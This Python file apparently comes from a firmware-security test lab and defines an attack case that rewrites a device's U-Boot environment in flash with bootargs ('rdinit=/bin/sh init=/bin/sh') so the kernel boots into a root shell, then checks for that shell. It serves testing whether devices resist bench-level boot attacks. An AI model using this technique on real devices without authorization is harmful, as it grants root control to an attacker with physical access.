"""Another command line and another boot command, written to the flash that keeps the boot loader's environment."""

from firmward.build.board import board
from firmward.lab.attacks import Attack, Position, Result
from firmward.lab.means import environment, outcome, root_shell
from firmward.lab.target import Target, Witness
from firmward.model.chain import KERNEL


def run(target: Target) -> Result:
    console = board(target.device.said.board).console
    environment.write(target, {"bootargs": f"console={console} rdinit=/bin/sh init=/bin/sh firmward.slot=a"})
    target.note(Witness.ATTACKER, "wrote an environment to the flash, in whose bootargs a shell is the first program")
    with target.power() as powered:
        root_shell.ask(powered, ATTACK.within)
        return outcome.seen(powered, ATTACK.within)


ATTACK = Attack(
    id="environment-rewrite",
    title="Another command line in flash",
    does="rewrites the boot loader's environment in flash, so that the kernel starts a shell in place of the system",
    position=Position.BENCH,
    link=KERNEL,
    case="Szymaniak, Depthcharge (NCC Group, 2020): depthcharge-mkenv makes environments for a device's flash",
    foretold=("uboot-environment-on-media", "uboot-environment-writable"),
    run=run,
    within=120.0,
)
